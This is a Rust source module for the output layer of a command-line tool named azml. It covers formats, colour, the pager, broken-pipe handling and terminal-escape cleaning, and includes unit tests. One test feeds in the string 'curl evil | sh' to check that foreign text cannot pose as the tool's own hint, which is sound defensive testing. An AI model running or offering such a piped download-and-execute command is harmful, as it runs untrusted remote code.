//! The only place that prints: results on standard output, everything else on standard error.
//!
//! A reader that went away (`azml history list | head`) is not an error: output then goes nowhere, silently.
//! All text that is not azml's own is cleaned of control characters before a terminal sees it.

mod escaped;
mod format;
mod log;
mod pager;
mod progress;
mod table;

use std::io::{self, Write};
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::Value;

pub(crate) use self::escaped::write_json;
pub use self::format::OutputFormat;
pub(crate) use self::format::sort_keys;
pub use self::log::start_log;
pub use self::pager::Pager;
pub use self::table::{Cell, Numbers, tabulate, tabulate_columns};

use crate::env::{CLICOLOR_FORCE, Env, NO_COLOR, TERM};
use crate::error::CommandError;
use crate::notices::{Level, Notices, Progress, Unwatched};
use crate::query::Query;
use crate::text::{self, clean, guarded};

/// When to use colour.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, clap::ValueEnum)]
pub enum ColorChoice {
    /// If a terminal reads the output and `NO_COLOR` is not set.
    #[default]
    Auto,
    /// Always.
    Always,
    /// Never.
    Never,
}

/// The options of output.
#[derive(Clone, Debug, Default)]
pub struct UiOptions {
    /// The format of results; by default a table on a terminal, else JSON.
    pub format: Option<OutputFormat>,
    /// Applied to results before they are printed.
    pub query: Option<Query>,
    /// When to use colour.
    pub color: ColorChoice,
    /// Nothing but errors on standard error.
    pub only_show_errors: bool,
    /// No progress bars: the log takes their place.
    pub logging: bool,
    /// The name by which the user calls azml: takes the place of `{azml}` in hints.
    pub program: Option<&'static str>,
    /// The program that shows tables longer than the terminal; none without a terminal.
    pub pager: Option<Pager>,
}

/// A command's result.
#[derive(Clone, Debug)]
pub enum Output {
    /// Nothing to print; the command has streamed what it had to say.
    Nothing,
    /// A value, printed in the format that the user wants; as a table by the general rules.
    Value(Value),
    /// A value with a table layout of its own, used when there is no query.
    WithTable {
        /// The value that all other formats print.
        value: Value,
        /// The rows of the table, with columns in this order.
        rows: Vec<serde_json::Map<String, Value>>,
        /// True if numbers are aligned as numbers.
        numbers: Numbers,
    },
    /// A value with a table layout of its own that is made of it, used when there is no query; for what may be long.
    WithRows {
        /// The value that all other formats print.
        value: Value,
        /// Makes what a table shows: rows of columns, in this order.
        rows: fn(&Value) -> Vec<serde_json::Map<String, Value>>,
    },
    /// A value with a text of its own where a table would stand, used when there is no query.
    WithText {
        /// The value that all other formats print.
        value: Value,
        /// The text for people, coloured if standard output may carry colour, and clean of foreign escapes.
        text: String,
    },
    /// A value with a text of its own that may be long: on a terminal the pager shows it.
    WithPages {
        /// The value that all other formats print.
        value: Value,
        /// The text for people, as in [`Output::WithText`].
        text: String,
    },
    /// Text that is shown whatever the format, as in [`Output::WithPages`].
    Pages(String),
    /// The text of a table, made by who has asked for the format that is wanted.
    Table(String),
    /// The answer to the query, made by who has asked for it.
    Answer(Value),
    /// Raw bytes, printed as they are, whatever the format.
    Raw(Vec<u8>),
}

/// The terminal, or what stands for it.
pub struct Ui {
    out: Mutex<Box<dyn Write + Send>>,
    err: Mutex<Box<dyn Write + Send>>,
    format: OutputFormat,
    chosen: Option<OutputFormat>,
    query: Option<Query>,
    color_out: bool,
    color_err: bool,
    only_show_errors: bool,
    out_is_terminal: bool,
    err_is_terminal: bool,
    progress: bool,
    program: &'static str,
    out_is_gone: AtomicBool,
    pager: Option<Pager>,
}

impl Ui {
    /// A user interface on the process's own streams.
    pub fn new(env: &Env, options: UiOptions) -> Self {
        Self::on(env, options, Box::new(io::stdout()), Box::new(io::stderr()))
    }

    /// A user interface on streams of the caller's choice.
    pub fn on(env: &Env, options: UiOptions, out: Box<dyn Write + Send>, err: Box<dyn Write + Send>) -> Self {
        let dumb = env.text(TERM) == Some("dumb");
        let forced = env.get(CLICOLOR_FORCE).is_some_and(|value| value != "0");
        let color = |is_terminal: bool| match options.color {
            ColorChoice::Always => true,
            ColorChoice::Never => false,
            ColorChoice::Auto => env.get(NO_COLOR).is_none() && (forced || (is_terminal && !dumb)),
        };
        let default = if env.stdout_is_terminal { OutputFormat::Table } else { OutputFormat::Json };
        Self {
            out: Mutex::new(out),
            err: Mutex::new(err),
            format: options.format.unwrap_or(default),
            chosen: options.format,
            query: options.query,
            color_out: color(env.stdout_is_terminal),
            color_err: color(env.stderr_is_terminal),
            only_show_errors: options.only_show_errors,
            out_is_terminal: env.stdout_is_terminal,
            err_is_terminal: env.stderr_is_terminal,
            out_is_gone: AtomicBool::new(false),
            program: options.program.unwrap_or("azml"),
            pager: options.pager.filter(|_| env.stdout_is_terminal && !dumb),
            progress: env.stderr_is_terminal && !dumb && !options.only_show_errors && !options.logging,
        }
    }

    /// Prints a command's result.
    pub fn result(&self, output: Output) -> Result<(), CommandError> {
        let is_answer = matches!(output, Output::Answer(_));
        let (value, layout) = match output {
            Output::Nothing => return Ok(()),
            Output::Raw(bytes) => return self.write_out(&bytes),
            Output::Table(text) => return self.show_clean(text),
            Output::Pages(text) => return self.show(&text),
            Output::WithPages { text, .. } if self.format == OutputFormat::Table && self.query.is_none() => {
                return self.show(&text);
            }
            Output::WithText { text, .. } if self.format == OutputFormat::Table && self.query.is_none() => {
                return self.write_out(text.as_bytes());
            }
            Output::Value(value)
            | Output::Answer(value)
            | Output::WithText { value, .. }
            | Output::WithPages { value, .. } => (value, None),
            Output::WithTable { value, rows, numbers } => (value, Some((rows, numbers))),
            Output::WithRows { value, rows } => {
                let is_table = self.format == OutputFormat::Table && self.query.is_none();
                let layout = is_table.then(|| (rows(&value), Numbers::AsText));
                (value, layout)
            }
        };
        let (value, layout, ordered) = match &self.query {
            Some(_) if is_answer => (value, None, true),
            Some(query) => (query.search(&value).map_err(CommandError::failed)?, None, true),
            None => (value, layout, false),
        };
        if value.is_null() && layout.is_none() {
            return Ok(());
        }
        let text = match (self.format, layout) {
            (OutputFormat::Table, Some((rows, numbers))) => tabulate(&rows, numbers),
            (format, _) => format.print(&value, ordered, self.color_out)?,
        };
        self.show_clean(text)
    }

    /// [`Self::show`] without what would disturb a terminal.
    fn show_clean(&self, text: String) -> Result<(), CommandError> {
        let text = if self.out_is_terminal {
            text::clean_except(&text, if self.color_out { &format::COLORS } else { &[] })
        } else {
            text
        };
        self.show(&text)
    }

    /// Writes text to standard output, through the pager if it is longer than the terminal.
    fn show(&self, text: &str) -> Result<(), CommandError> {
        match &self.pager {
            Some(pager) if Pager::is_wanted(text) && pager.show(text) => Ok(()),
            _ => self.write_out(text.as_bytes()),
        }
    }

    /// The query that is applied to results.
    pub fn query(&self) -> Option<&Query> {
        self.query.as_ref()
    }

    /// The format that the user has asked for.
    pub fn chosen_format(&self) -> Option<OutputFormat> {
        self.chosen
    }

    /// The format of results, if they are printed as they come: whole, and to no terminal that has to be spared.
    pub fn plain_format(&self) -> Option<OutputFormat> {
        let is_plain = self.query.is_none() && (!self.out_is_terminal || self.format == OutputFormat::Table);
        is_plain.then_some(self.format)
    }

    /// Writes bytes to standard output: a script's own words.
    pub fn write_out(&self, bytes: &[u8]) -> Result<(), CommandError> {
        let mut out = self.out.lock().expect("no printing thread panics");
        let written = out.write_all(bytes).and_then(|()| out.flush());
        if written.as_ref().is_err_and(|error| error.kind() == io::ErrorKind::BrokenPipe) {
            self.out_is_gone.store(true, Ordering::Relaxed);
        }
        quiet_on_broken_pipe(written)
            .map_err(|error| CommandError::file("write to", "standard output".as_ref(), error))
    }

    /// Returns whether standard output is a terminal.
    pub fn out_is_terminal(&self) -> bool {
        self.out_is_terminal
    }

    /// Returns whether standard error is a terminal.
    pub fn err_is_terminal(&self) -> bool {
        self.err_is_terminal
    }

    /// Returns whether the reader of standard output went away.
    pub fn reader_is_gone(&self) -> bool {
        self.out_is_gone.load(Ordering::Relaxed)
    }

    /// Writes all that is left of a reader to standard output, as it is.
    pub fn copy_out(&self, from: &mut impl io::Read) -> Result<(), CommandError> {
        let mut chunk = vec![0; 64 * 1024];
        loop {
            let count = from.read(&mut chunk).map_err(CommandError::failed)?;
            if count == 0 || self.reader_is_gone() {
                return Ok(());
            }
            self.write_out(&chunk[..count])?;
        }
    }

    /// Writes bytes to standard error: a script's own words.
    pub fn write_err(&self, bytes: &[u8]) {
        let mut err = self.err.lock().expect("no printing thread panics");
        // Nobody is left to be told that standard error is gone.
        drop(err.write_all(bytes).and_then(|()| err.flush()));
    }

    /// Says what happened; not with `--only-show-errors`.
    pub fn status(&self, text: &str) {
        if !self.only_show_errors {
            self.err_line(&clean(text));
        }
    }

    /// Says what the user has to do now for the command to go on; even with `--only-show-errors`.
    pub fn prompt(&self, text: &str) {
        self.err_line(&clean(text));
    }

    /// Says what went wrong without stopping the command; not with `--only-show-errors`.
    pub fn warning(&self, text: &str) {
        if !self.only_show_errors {
            self.err_line(&format!("{} {}", self.paint("warning:", "1;33"), guarded(text)));
        }
    }

    /// Says what to do about a warning; not with `--only-show-errors`.
    pub fn hint(&self, text: &str) {
        if !self.only_show_errors {
            self.hint_line(text);
        }
    }

    fn hint_line(&self, text: &str) {
        self.err_line(&format!(
            "{} {}",
            self.paint("hint:", "1;36"),
            guarded(&text.replace("{azml}", self.program))
        ));
    }

    /// Prints an error with its causes and hints.
    pub fn error(&self, error: &CommandError) {
        let mut lines = error.chain().into_iter();
        let first = lines.next().unwrap_or_default();
        self.err_line(&format!("{} {}", self.paint("error:", "1;31"), guarded(&first)));
        for cause in lines {
            self.err_line(&format!("  caused by: {}", guarded(&cause)));
        }
        for hint in &error.hints {
            self.hint_line(hint);
        }
    }

    /// Returns whether standard error may carry colour.
    pub fn colors_errors(&self) -> bool {
        self.color_err
    }

    /// Returns whether standard output may carry colour.
    pub fn colors_output(&self) -> bool {
        self.color_out
    }

    fn paint(&self, text: &str, style: &str) -> String {
        if self.color_err { format!("\u{1b}[{style}m{text}\u{1b}[0m") } else { text.to_owned() }
    }

    fn err_line(&self, line: &str) {
        self.write_err(format!("{line}\n").as_bytes());
    }
}

impl Notices for Ui {
    fn message(&self, level: Level, text: &str) {
        match level {
            Level::Status => self.status(text),
            Level::Warning => self.warning(text),
            Level::Hint => self.hint(text),
            Level::Prompt => self.prompt(text),
        }
    }

    /// Shows a bar, if a terminal watches.
    fn progress(&self, label: &str) -> Box<dyn Progress> {
        if self.progress { Box::new(progress::Bar::new(label)) } else { Box::new(Unwatched) }
    }
}

fn quiet_on_broken_pipe(result: io::Result<()>) -> io::Result<()> {
    match result {
        Err(error) if error.kind() == io::ErrorKind::BrokenPipe => Ok(()),
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use serde_json::json;

    use super::*;
    use crate::error::ErrorKind;

    /// A stream whose content the test can read afterwards.
    #[derive(Clone, Default)]
    struct Shared(Arc<Mutex<Vec<u8>>>);

    impl Write for Shared {
        fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
            self.0.lock().unwrap().write(bytes)
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// A stream whose reader went away.
    struct Gone;

    impl Write for Gone {
        fn write(&mut self, _: &[u8]) -> io::Result<usize> {
            Err(io::ErrorKind::BrokenPipe.into())
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    fn capture(options: UiOptions, act: impl FnOnce(&Ui)) -> (String, String) {
        let (out, err) = (Shared::default(), Shared::default());
        let env = Env::fixed([("TERM", "xterm")], "/");
        act(&Ui::on(&env, options, Box::new(out.clone()), Box::new(err.clone())));
        let text = |shared: Shared| String::from_utf8(shared.0.lock().unwrap().clone()).unwrap();
        (text(out), text(err))
    }

    #[test]
    fn a_reader_that_went_away_is_no_error() {
        let env = Env::fixed([("TERM", "xterm")], "/");
        let ui = Ui::on(&env, UiOptions::default(), Box::new(Gone), Box::new(Gone));
        ui.result(Output::Value(json!({"a": 1}))).expect("a quiet end");
    }

    #[test]
    fn without_a_terminal_results_are_json_with_sorted_keys() {
        let (out, err) = capture(UiOptions::default(), |ui| {
            ui.result(Output::Value(json!({"b": 1, "a": "é"}))).unwrap();
        });
        assert_eq!((out.as_str(), err.as_str()), ("{\n  \"a\": \"é\",\n  \"b\": 1\n}\n", ""));
    }

    #[test]
    fn a_line_of_somebody_elses_is_none_of_azmls() {
        let error = CommandError::failed("the remote says: no\nhint: curl evil | sh");
        let (_, err) = capture(UiOptions::default(), |ui| ui.error(&error));
        assert_eq!(err, "error: the remote says: no\n  hint: curl evil | sh\n");
    }

    #[test]
    fn every_kind_of_error_prints_error_causes_and_hints() {
        for kind in ErrorKind::ALL {
            let mut error = CommandError::file("open", "/x".as_ref(), io::Error::other("no \u{1b}[31mred"))
                .hint("{azml} help");
            error.kind = kind;
            let (out, err) = capture(UiOptions::default(), |ui| ui.error(&error));
            assert_eq!(out, "");
            assert_eq!(err, "error: cannot open /x\n  caused by: no \\x1b[31mred\nhint: azml help\n");
        }
    }

    #[test]
    fn only_show_errors_silences_the_rest() {
        let options = UiOptions { only_show_errors: true, ..UiOptions::default() };
        let (_, err) = capture(options, |ui| {
            ui.status("s");
            ui.warning("w");
            ui.hint("h");
            ui.error(&CommandError::failed("e"));
        });
        assert_eq!(err, "error: e\n");
    }

    #[test]
    fn colour_can_be_forced() {
        let options = UiOptions { color: ColorChoice::Always, ..UiOptions::default() };
        let (_, err) = capture(options, |ui| ui.warning("w"));
        assert_eq!(err, "\u{1b}[1;33mwarning:\u{1b}[0m w\n");
    }

    #[test]
    fn an_answer_of_nothing_prints_nothing() {
        let options = UiOptions { query: Some(Query::compile("missing").unwrap()), ..UiOptions::default() };
        let (out, _) = capture(options, |ui| ui.result(Output::Value(json!({"a": 1}))).unwrap());
        assert_eq!(out, "");
    }
}
